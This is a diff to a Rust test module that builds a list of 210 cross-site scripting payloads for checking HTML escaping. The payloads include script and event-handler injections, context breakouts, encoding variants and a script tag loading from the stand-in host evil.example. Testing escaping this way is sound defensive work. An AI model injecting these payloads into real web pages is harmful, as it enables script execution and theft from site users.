@@ -1,7 +1,7 @@
 //! Text that becomes a script, a frame or a form where somebody forgets to escape it. The tests in a real browser use the same.
 
 /// Scripts, handlers, frames, styles, comments and templates; broken out of text, attributes, titles and addresses.
-pub(crate) const PAYLOADS: [&str; 70] = [
+const WRITTEN: [&str; 70] = [
     "<script>alert(1)</script>",
     "<ScRiPt>alert(1)</sCrIpT>",
     "<script src=//evil.example/x.js></script>",
@@ -73,3 +73,44 @@ pub(crate) const PAYLOADS: [&str; 70] = [
     "a\u{202e}<i>b",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
 ];
+
+/// Ways out of where a text stands: plain text, attributes in each kind of quotes, and elements that end only by their names.
+const WAYS_OUT: [&str; 10] =
+    ["", "\">", "'>", "` ", "</p>", "</title>", "</textarea>", "</style>", "--></script>", "\u{a0}\"\t/>"];
+
+/// What runs, loads or leads away once it is out.
+const CHARGES: [&str; 7] = [
+    "<svg onload=alert(2)>",
+    "<b onclick=alert(2)>b",
+    "<img src onerror=alert(2)>",
+    "<iframe src=//a.example>",
+    "<p style=color:red>p",
+    "<a href=JavaScript:alert(2)>",
+    "<script>alert(2)</script>",
+];
+
+/// Ways to write it for somebody who decodes once too often, or reads another character set.
+const SPELLINGS: [fn(&str) -> String; 10] = [
+    |text| text.bytes().map(|byte| format!("%{byte:02x}")).collect(),
+    |text| text.replace('<', "%253C").replace('>', "%253E"),
+    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
+    |text| text.replace('<', "&#x3C").replace('>', "&#62"),
+    |text| text.replace('<', "\\x3c").replace('>', "\\x3e"),
+    |text| text.replace('<', "\\u003C").replace('>', "\\u003E"),
+    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
+    |text| text.replace('<', "\u{2039}<").replace(' ', "\u{3000}"),
+    |text| text.replace('<', "<\u{ad}").replace(' ', "/"),
+    |text| text.chars().rev().chain("\u{202e}<i>".chars()).collect(),
+];
+
+/// All of them: those written by hand, every charge behind every way out, and every charge in every spelling.
+pub(crate) fn payloads() -> Vec<String> {
+    let mut all: Vec<String> = WRITTEN.map(str::to_owned).into();
+    for charge in CHARGES {
+        all.extend(WAYS_OUT.map(|way| format!("{way}{charge}")));
+        all.extend(SPELLINGS.map(|spell| spell(charge)));
+    }
+    let different: std::collections::BTreeSet<&String> = all.iter().collect();
+    assert_eq!((all.len(), different.len()), (210, 210), "two payloads are one");
+    all
+}
